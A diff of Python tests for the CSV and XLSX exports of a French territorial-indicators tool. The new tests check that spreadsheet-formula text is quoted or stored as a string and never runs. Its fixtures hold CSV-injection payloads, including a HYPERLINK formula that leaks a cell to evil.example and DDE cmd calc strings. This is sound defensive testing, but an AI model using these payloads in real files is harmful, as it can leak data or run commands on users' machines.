@@ -1,8 +1,14 @@
 """Exports of the indicator table (Parquet, French CSV, XLSX with definitions) and the `abs-diag indicators` command,
-on the demo store refreshed once for this module through the demo mirror."""
+on the session's demo store (refreshed through the demo mirror, so its exports say their figures are synthetic),
+and hostile text (commune names, `--name`) that a spreadsheet must show as text, never run as a formula."""
 
 from __future__ import annotations
 
+import csv
+import io
+import re
+import shutil
+import zipfile
 from pathlib import Path
 
 import openpyxl
@@ -13,7 +19,9 @@ from typer.testing import CliRunner
 from flows.cli import app
 from sources.refresh import refresh
 from sources.store import Store
-from transforms.export import COLUMNS_FR, definitions, write_exports
+from sources.demo import MIRROR_ROOT
+from sources.mirror import serve
+from transforms.export import COLUMNS_FR, DEMO_COLUMN_FR, definitions, write_exports
 from transforms.pipeline import Selection, export_indicators
 from transforms.registry import indicators
 from transforms.territories import CustomTerritory
@@ -23,10 +31,9 @@ BOM = b"\xef\xbb\xbf"
 
 
 @pytest.fixture(scope="module")
-def store(tmp_path_factory, demo_mirror) -> Store:
-    store = Store(tmp_path_factory.mktemp("indicators-exports"))
-    assert not refresh(store=store, mirror=demo_mirror.url, progress=False).failed
-    return store
+def store(demo_store) -> Store:
+    """The session's demo store (tests/conftest.py), read only."""
+    return demo_store
 
 
 @pytest.fixture(scope="module")
@@ -50,8 +57,10 @@ def test_parquet_round_trips(epci_export):
     table, paths = epci_export
     assert paths["parquet"].name == f"indicateurs-epci-{CSMA}.parquet"
     back = pl.read_parquet(paths["parquet"])
-    assert back.equals(table)
-    assert back.schema == table.schema
+    # a store refreshed from the demo mirror: every row says its figures are synthetic, even without `demo=True`
+    assert back["demo"].to_list() == [True] * table.height
+    assert back.drop("demo").equals(table)
+    assert back.drop("demo").schema == table.schema
 
 
 def test_csv_is_french_spreadsheet_friendly(epci_export):
@@ -61,7 +70,7 @@ def test_csv_is_french_spreadsheet_friendly(epci_export):
     text = raw[len(BOM):].decode("utf-8")
     header = text.splitlines()[0].split(";")
     assert header[:5] == ["niveau", "code", "nom", "thème", "indicateur"]
-    assert set(header) <= set(COLUMNS_FR.values())
+    assert set(header) <= set(COLUMNS_FR.values()) | {DEMO_COLUMN_FR}
     back = pl.read_csv(raw[len(BOM):], separator=";", decimal_comma=True, infer_schema=False)
     assert back.height == table.height
     # the value of a non-integer rate is written with a decimal comma, rounded to 3 decimals
@@ -77,7 +86,7 @@ def test_csv_is_french_spreadsheet_friendly(epci_export):
 def test_xlsx_has_the_table_and_the_definitions(epci_export):
     table, paths = epci_export
     book = openpyxl.load_workbook(paths["xlsx"], read_only=True)
-    assert book.sheetnames == ["indicateurs", "définitions"]
+    assert book.sheetnames == ["À lire", "indicateurs", "définitions"]  # the demo store's warning first
     book.close()
     sheet = pl.read_excel(paths["xlsx"], sheet_name="indicateurs")
     assert sheet.height == table.height and sheet.columns[:2] == ["niveau", "code"]
@@ -88,8 +97,9 @@ def test_xlsx_has_the_table_and_the_definitions(epci_export):
 
 
 def test_demo_exports_say_their_figures_are_synthetic(epci_export, tmp_path):
-    table, plain = epci_export
+    table, _ = epci_export
     paths = write_exports(table, tmp_path, "demo", demo=True)
+    plain = write_exports(table, tmp_path, "plain")
     parquet = pl.read_parquet(paths["parquet"])
     assert parquet["demo"].dtype == pl.Boolean and parquet["demo"].to_list() == [True] * table.height
     assert parquet.drop("demo").equals(table)
@@ -168,3 +178,148 @@ def test_an_export_longer_than_an_excel_sheet_spans_several_sheets(tmp_path, mon
     # 5 rows, 2 per sheet: 2 + 2 + 1
     assert book.sheetnames == ["indicateurs 1", "indicateurs 2", "indicateurs 3", "définitions"]
     assert [book[f"indicateurs {n}"].max_row - 1 for n in (1, 2, 3)] == [2, 2, 1]
+
+
+# -- hostile text: a spreadsheet shows it, never runs it --------------------------------------------------------
+
+# What OWASP's CSV injection page lists as the start of a formula (= + - @ tab CR), written by hand.
+HOSTILE = {
+    "01001": '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")',
+    "01002": "+1+1",
+    "01003": "-2+3+cmd|' /C calc'!A0",
+    "01004": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "01005": "\t=1+1",
+    "01006": "\r=1+1",
+}
+BENIGN = {"01007": "Saint-Léger-sous-Cholet", "01008": "L'Abergement-Clémenciat"}  # a hyphen or quote inside
+
+
+def csv_rows(path: Path) -> list[dict[str, str]]:
+    """The CSV as the text a spreadsheet receives, cell by cell."""
+    text = path.read_bytes()[len(BOM):].decode("utf-8")
+    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))
+
+
+def ooxml_text(value: object) -> object:
+    """A string as Excel reads it: the XML escape `_x000D_` is a carriage return (openpyxl leaves it escaped)."""
+    if not isinstance(value, str):
+        return value
+    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), value)
+
+
+def xlsx_cells(path: Path, sheet: str) -> list[dict[str, tuple[object, str]]]:
+    """Each row of a sheet: header -> (value, openpyxl data_type)."""
+    book = openpyxl.load_workbook(path)
+    rows = list(book[sheet].iter_rows())
+    header = [c.value for c in rows[0]]
+    return [{h: (ooxml_text(c.value), c.data_type) for h, c in zip(header, row)} for row in rows[1:]]
+
+
+def assert_no_formula_nor_link(path: Path) -> None:
+    """No cell of any sheet is a formula (`<f>`) and no hyperlink was made of a text."""
+    with zipfile.ZipFile(path) as zf:
+        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
+        assert sheets
+        for name in sheets:
+            xml = zf.read(name).decode("utf-8")
+            assert "<f>" not in xml and "<f " not in xml and "<hyperlink" not in xml, name
+
+
+def hostile_table() -> pl.DataFrame:
+    names = {**HOSTILE, **BENIGN}
+    n = len(names)
+    return pl.DataFrame({
+        "level": ["COM"] * n, "code": list(names), "name": list(names.values()), "indicator": ["population"] * n,
+        "value": [-0.5] + [10.0] * (n - 1), "evolution": [-1.25] + [2.0] * (n - 1), "status": [None] * n,
+        "unit": ["count"] * n, "evolution_unit": ["percent_per_year"] * n,
+    }, schema_overrides={"status": pl.String})
+
+
+def test_csv_text_cells_that_start_a_formula_get_a_leading_quote(tmp_path):
+    paths = write_exports(hostile_table(), tmp_path, "hostile")
+    rows = {row["code"]: row for row in csv_rows(paths["csv"])}
+    assert rows["01001"]["nom"] == "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Cliquez ici\")"
+    assert rows["01002"]["nom"] == "'+1+1"
+    assert rows["01003"]["nom"] == "'-2+3+cmd|' /C calc'!A0"
+    assert rows["01004"]["nom"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert rows["01005"]["nom"] == "'\t=1+1"
+    assert rows["01006"]["nom"] == "'\r=1+1"
+    # text that starts no formula is left as it is
+    assert rows["01007"]["nom"] == "Saint-Léger-sous-Cholet" and rows["01008"]["nom"] == "L'Abergement-Clémenciat"
+    # numbers stay numbers: a negative value or evolution is not text to neutralise
+    assert rows["01001"]["valeur"] == "-0,5" and rows["01001"]["évolution"] == "-1,25"
+    assert rows["01002"]["évolution"] == "2,0"
+    # the Parquet (for machines) keeps the original text
+    assert pl.read_parquet(paths["parquet"])["name"].to_list()[:6] == list(HOSTILE.values())
+
+
+def test_xlsx_writes_hostile_names_as_text_and_numbers_as_numbers(tmp_path):
+    paths = write_exports(hostile_table(), tmp_path, "hostile", demo=True)
+    assert_no_formula_nor_link(paths["xlsx"])
+    rows = {row["code"][0]: row for row in xlsx_cells(paths["xlsx"], "indicateurs")}
+    for code, name in {**HOSTILE, **BENIGN}.items():
+        assert rows[code]["nom"] == (name, "s"), code  # the original text, stored as a string
+    assert rows["01001"]["valeur"] == (-0.5, "n") and rows["01001"]["évolution"] == (-1.25, "n")
+
+
+def test_the_definitions_sheet_writes_text_as_text_too(tmp_path, monkeypatch):
+    from transforms import export
+
+    hostile = pl.DataFrame({"indicateur": ["population"], "définition": ["=1+1"], "précautions": ["@A1"],
+                            "effectif minimal": [-3]})
+    monkeypatch.setattr(export, "definitions", lambda: hostile)
+    paths = export.write_exports(hostile_table(), tmp_path, "hostile")
+    assert_no_formula_nor_link(paths["xlsx"])
+    [row] = xlsx_cells(paths["xlsx"], "définitions")
+    assert row["définition"] == ("=1+1", "s") and row["précautions"] == ("@A1", "s")
+    assert row["effectif minimal"] == (-3, "n")
+
+
+def test_a_custom_territory_named_like_a_formula_is_text_in_every_export(store, tmp_path):
+    name = '=HYPERLINK("http://evil.example","Vallée")'
+    result = _run("--communes", "44043,44064", f"--name={name}", "--data-dir", str(store.root), "--out", str(tmp_path))
+    assert result.exit_code == 0, result.output
+    [csv_path] = tmp_path.glob("indicateurs-*.csv")
+    own = [r for r in csv_rows(csv_path) if r["niveau"] == "TERRITORY"]
+    assert len(own) == len(indicators()) and {r["nom"] for r in own} == {"'" + name}
+    xlsx_path = csv_path.with_suffix(".xlsx")
+    assert_no_formula_nor_link(xlsx_path)
+    names = {r["nom"] for r in xlsx_cells(xlsx_path, "indicateurs") if r["niveau"][0] == "TERRITORY"}
+    assert names == {(name, "s")}
+
+
+@pytest.fixture(scope="module")
+def hostile_cog_export(tmp_path_factory):
+    """Three communes of the demo's CSMA renamed in the COG file (`LIBELLE`), refreshed, exported."""
+    root = tmp_path_factory.mktemp("hostile-cog")
+    mirror = root / "mirror"
+    shutil.copytree(MIRROR_ROOT, mirror)
+    cog = mirror / "www.insee.fr/fr/statistiques/fichier/8377162/v_commune_2025.csv"
+    text = cog.read_bytes().decode("utf-8")
+    # NCC, NCCENR, LIBELLE: only LIBELLE (the name shown) changes
+    renames = {
+        ",CLISSON,Clisson,Clisson,": ',CLISSON,Clisson,"=HYPERLINK(""http://evil.example"",""Clisson"")",',
+        ",GORGES,Gorges,Gorges,": ",GORGES,Gorges,@SUM(1+1),",
+        ",HAUTE-GOULAINE,Haute-Goulaine,Haute-Goulaine,": ",HAUTE-GOULAINE,Haute-Goulaine,-2+3,",
+    }
+    for old, new in renames.items():
+        assert text.count(old) == 1, old
+        text = text.replace(old, new)
+    cog.write_bytes(text.encode("utf-8"))
+    store = Store(root / "data")
+    with serve(mirror) as served:
+        report = refresh(store=store, mirror=served.url, progress=False)
+    assert report.failed == [], [f.error for f in report.failed]
+    return export_indicators(store, root / "out", Selection(epci=CSMA))
+
+
+def test_commune_names_of_the_cog_are_text_in_the_csv_and_the_xlsx(hostile_cog_export):
+    table, paths = hostile_cog_export
+    expected = {"44043": '=HYPERLINK("http://evil.example","Clisson")', "44064": "@SUM(1+1)", "44071": "-2+3"}
+    staged = dict(table.filter(pl.col("level") == "COM").select("code", "name").unique().iter_rows())
+    assert {code: staged[code] for code in expected} == expected  # the COG's names, kept as they are
+    csv_names = {(r["code"], r["nom"]) for r in csv_rows(paths["csv"]) if r["niveau"] == "COM"}
+    assert {("44043", "'" + expected["44043"]), ("44064", "'@SUM(1+1)"), ("44071", "'-2+3")} <= csv_names
+    assert_no_formula_nor_link(paths["xlsx"])
+    xlsx_names = {(r["code"][0], r["nom"]) for r in xlsx_cells(paths["xlsx"], "indicateurs") if r["niveau"][0] == "COM"}
+    assert {(code, (name, "s")) for code, name in expected.items()} <= xlsx_names
